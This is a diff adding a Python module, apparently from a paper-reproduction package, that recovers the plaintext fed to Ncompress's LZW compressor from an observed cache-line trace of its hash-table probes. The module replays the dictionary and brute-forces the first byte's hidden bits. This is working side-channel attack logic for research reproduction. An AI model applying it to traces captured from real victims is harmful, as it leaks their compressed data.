@@ -1,0 +1,131 @@
+"""Plaintext recovery from the Ncompress ``htab[hp]`` trace (Section IV-C).
+
+"The compression algorithm is designed to be reversible [so] knowledge of
+all previous input bytes allows the attacker to compute all dictionary
+entries in the same manner as the compressor does.  In particular, the
+attacker can xor the variable ``ent`` they compute with the observed
+value of ``hp`` to gain each input byte ``c``."
+
+``htab`` is cache-line aligned and 8 bytes per entry, so one observation
+reveals ``hp & ~7``; since ``c`` sits at ``hp`` bits 9-16, every byte
+after the first recovers exactly.  The first byte only ever appears as
+``ent`` in the first probe, whose low 3 bits are hidden — so the
+attacker "can check all 2^3 = 8 possible triplets of bits", which is
+what :func:`recover_lzw_input` does, replaying the compressor for each
+candidate and discarding those whose predicted probe sequence stops
+matching the observed lines.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.compression.lzw import FIRST_FREE, HSHIFT, HSIZE, MAX_MAX_CODE
+
+
+@dataclass
+class _ReplayState:
+    """The attacker's replica of the compressor's dictionary state."""
+
+    htab: dict[int, int]
+    codetab: dict[int, int]
+    free_ent: int
+    ent: int
+
+
+def _replay_step(state: _ReplayState, c: int, observations: list[int],
+                 pos: int, base: int) -> int | None:
+    """Advance the replica by one input byte, consuming observations.
+
+    Returns the new observation cursor, or None on inconsistency.
+    """
+    fc = (state.ent << 8) | c
+    hp = (c << HSHIFT) ^ state.ent
+
+    def check(expected_hp: int, cursor: int) -> bool:
+        if cursor >= len(observations):
+            return False
+        return (base + expected_hp * 8) >> 6 == observations[cursor]
+
+    if not check(hp, pos):
+        return None
+    pos += 1
+    slot = state.htab.get(hp, -1)
+    found = slot == fc
+    if not found and slot >= 0:
+        disp = HSIZE - hp if hp != 0 else 1
+        while True:
+            hp = (hp + (HSIZE - disp)) % HSIZE
+            if not check(hp, pos):
+                return None
+            pos += 1
+            slot = state.htab.get(hp, -1)
+            if slot == fc:
+                found = True
+                break
+            if slot < 0:
+                break
+
+    if found:
+        state.ent = state.codetab[hp]
+    else:
+        if state.free_ent < MAX_MAX_CODE:
+            state.codetab[hp] = state.free_ent
+            state.htab[hp] = fc
+            state.free_ent += 1
+        state.ent = c
+    return pos
+
+
+def recover_lzw_input(
+    observations: list[int], htab_base: int, n: int
+) -> list[bytes]:
+    """Reconstruct the plaintext from the observed htab cache lines.
+
+    Args:
+        observations: cache lines of *all* htab probe reads (primary and
+            secondary), in program order.
+        htab_base: base address of htab (must be cache-line aligned, as
+            in the implementation the paper studies).
+        n: plaintext length in bytes.
+
+    Returns:
+        the list of feasible plaintexts (1-8 entries; the ambiguity is
+        the first byte's low 3 bits).  Empty if the trace is
+        inconsistent.
+    """
+    if htab_base % 64 != 0:
+        raise ValueError("recovery assumes a cache-line-aligned htab")
+    if n == 0:
+        return [b""]
+    if not observations and n == 1:
+        # A single-byte input performs no probe; nothing constrains it.
+        return [bytes([b]) for b in range(256)]
+
+    # First probe: hp0 = (c1 << 9) ^ ent0 with ent0 = byte0 < 256, so the
+    # observation fixes byte0's bits 3-7 and c1 entirely.
+    hp0_high = ((observations[0] << 6) - htab_base) >> 3
+    byte0_high = hp0_high & 0xF8
+
+    results: list[bytes] = []
+    for low3 in range(8):
+        byte0 = byte0_high | low3
+        state = _ReplayState({}, {}, FIRST_FREE, byte0)
+        recovered = [byte0]
+        pos = 0
+        ok = True
+        for _ in range(1, n):
+            if pos >= len(observations):
+                ok = False
+                break
+            hp_high = ((observations[pos] << 6) - htab_base) >> 3
+            c = ((hp_high ^ state.ent) >> HSHIFT) & 0xFF
+            new_pos = _replay_step(state, c, observations, pos, htab_base)
+            if new_pos is None:
+                ok = False
+                break
+            recovered.append(c)
+            pos = new_pos
+        if ok and pos == len(observations):
+            results.append(bytes(recovered))
+    return results
